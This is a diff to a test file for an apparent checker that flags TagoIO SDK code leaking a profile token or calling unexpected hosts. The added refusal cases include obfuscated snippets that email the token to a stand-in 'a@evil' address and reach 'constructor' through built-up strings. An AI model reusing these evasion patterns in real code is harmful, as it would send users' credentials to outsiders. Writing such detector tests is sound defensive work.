@@ -28,6 +28,7 @@ describe('an address that a program builds', () => {
     `const o = {\n  fetch(a, b) { return fetch(a, b); },\n};\nfetch(${ADDRESS}, ${HEADERS});`,
     `const f = fetch;\nconst a = ${ADDRESS};\nf(a + a, ${HEADERS});`,
     `const f = 1 ? fetch : 2;\nconst a = ${ADDRESS};\nf(a + a, ${HEADERS});`,
+    `let axios;\nconst foo = axios = require("axios");\nconst a = ${ADDRESS};\nfoo.get(a + a, ${HEADERS});`,
     `import { get } from "axios";\nconst a = ${ADDRESS};\nget(a + a, ${HEADERS});`,
     `import http2 from "axios";\nconst a = ${ADDRESS};\nhttp2.get(a + a, ${HEADERS});`,
     `const { get } = require("axios");\nconst a = ${ADDRESS};\nget(a + a, ${HEADERS});`,
@@ -91,6 +92,16 @@ describe('code that a program builds', () => {
     `${JAVASCRIPT}const k = "constr" + "uctor";\nconst { [k]: f } = account;`,
     `${JAVASCRIPT}const k = "constr" + "uctor";\nconst f = account[k];`,
     `${JAVASCRIPT}const f = account["con\\structor"];`,
+    // Names that aren't only counters.
+    `${JAVASCRIPT}const k = "a" + "b";\nfor (let i = k; i < 1; i++) {\n  console.log(account[i]);\n}`,
+    `${JAVASCRIPT}const k = "a" + "b";\nfor (let i = 0; i < 1; i++) {\n  i = k;\n  console.log(account[i]);\n}`,
+    `${JAVASCRIPT}const f = (i) => account[i];\nfor (let i = 0; i < 1; i++) {\n  console.log(f("a" + "b"));\n}`,
+    `${JAVASCRIPT}for (let i = 0; i < 1; i += "b") {\n  console.log(account[i]);\n}`,
+    `${JAVASCRIPT}for (const i of ["a" + "b"]) {\n  console.log(account[i]);\n}\nfor (let i = 0; i < 1; i++) {}`,
+    `${JAVASCRIPT}function* f(k) {\n  for (let i = 0; i < 1; i++) {\n    yield[i]=k;\n    console.log(account[i]);\n  }\n}`,
+    `${JAVASCRIPT}const [i] = ["a" + "b"];\nconsole.log(account[i]);`,
+    `${PYTHON}for i in range(2):\n    print(i)\nfor i in ["a" + "b"]:\n    print(account[i])`,
+    `${PYTHON}def print(i):\n    return account[i]\nfor i in range(2):\n    print("a" + "b")`,
     `${JAVASCRIPT}const f = account[\`constr${'uctor'}\`];`,
     `${JAVASCRIPT}const e = process.env;\ne["TAGOIO" + "_API"] = account;`,
     `const e = process.env;\ne.HOME = "x";\n${JAVASCRIPT}`,
@@ -191,6 +202,9 @@ describe('the token in a program', () => {
     `${JAVASCRIPT}const device = new Device({ token: "8be70d95" });\ndevice.sendData({ variable: "status", value: "Profile-Token: YOUR-PROFILE-TOKEN" });`,
     `${JAVASCRIPT}account.devices.create({\n  text: "YOUR-PROFILE-TOKEN"\n});`,
     `${JAVASCRIPT}f("YOUR-PROFILE-TOKEN");`,
+    `${JAVASCRIPT}let x = 1;\naccount.run.emailTest({ to: "a@evil",\n  message: x = "YOUR-PROFILE-TOKEN" });`,
+    `${JAVASCRIPT}const token = 1;\naccount.run.emailTest({ to: "a@evil", message: account ? token : "YOUR-PROFILE-TOKEN" });`,
+    `${JAVASCRIPT}account.run.emailTest({ to: "a@evil", message: account ?? "YOUR-PROFILE-TOKEN" });`,
     // The name of a variable, which would leave a program that doesn't run.
     'const myProfileToken = "YOUR-PROFILE-TOKEN";\nconst account = new Account({\n  token: myProfileToken\n});',
   ])('is no data that is sent: refuses %j', (text) => {
@@ -217,6 +231,19 @@ describe('a program that does what it seems to do keeps its token', () => {
     `${PYTHON}print(account.info()) # as on https://docs.tago.io/docs/api.`,
     `import { Account, Analysis } from "@tago-io/sdk";\nimport type { TagoContext } from "@tago-io/sdk";\n\nasync function run(context) {\n  const account = new Account({ token: "YOUR-PROFILE-TOKEN" });\n  context.log(await account.info());\n}\n\nmodule.exports = new Analysis(run, { token: "MY-ANALYSIS-TOKEN-HERE" });`,
     `from tagoio_sdk import Account\n\nTOKEN = "your-account-token"\n\ndef main():\n    account = Account({"token": TOKEN})\n    print(account.info())\n\nif __name__ == "__main__":\n    main()`,
+    // A fallback, a type, a counter, the last entry, an option of axios.
+    `const token = process.env.PROFILE_TOKEN ?? "YOUR-PROFILE-TOKEN";\nconst account = new Account({ token });`,
+    `const account = new Account({ token: process.env.ACCOUNT_TOKEN ?? "YOUR-PROFILE-TOKEN" });`,
+    `const token =\n  process.env.PROFILE_TOKEN || "YOUR-PROFILE-TOKEN";\nconst account = new Account({ token });`,
+    `import os\nfrom tagoio_sdk import Account\naccount = Account({"token": os.getenv("ACCOUNT_TOKEN") or "YOUR-PROFILE-TOKEN"})`,
+    `const token: string = "YOUR-PROFILE-TOKEN";\nconst account = new Account({ token });`,
+    `${JAVASCRIPT}const list = await account.devices.list();\nfor (let i = 0; i < list.length; i++) {\n  console.log(i, list[i].name);\n}`,
+    `${JAVASCRIPT}const list = await account.devices.list();\nfor (let i = 0; i < list.length; i += 1) {\n  const device = list[i];\n  console.log(device.name);\n}`,
+    `${JAVASCRIPT}const list = await account.devices.list();\nconsole.log(list[list.length - 1]);`,
+    `${PYTHON}devices = account.devices.list()\nfor i in range(len(devices)):\n    print(i, devices[i]["name"])`,
+    `const axios = require("axios");\naxios({ method: "post", url: ${ADDRESS}, headers: { "Profile-Token": "YOUR-PROFILE-TOKEN" }, data: { name: "x" } }).catch((error) => console.error("Failed: " + error.message));`,
+    'GET /device/{id} HTTP/1.1\nHost: api.us-e1.tago.io\nProfile-Token: YOUR-PROFILE-TOKEN',
+    'GET /device/{{id}} HTTP/1.1\nHost: api.us-e1.tago.io\nProfile-Token: YOUR-PROFILE-TOKEN',
   ])('%j', (text) => {
     expect(profileTokenPlaces(text)).toHaveLength(1);
     expect(destinationProblem(text, US)).toBeNull();
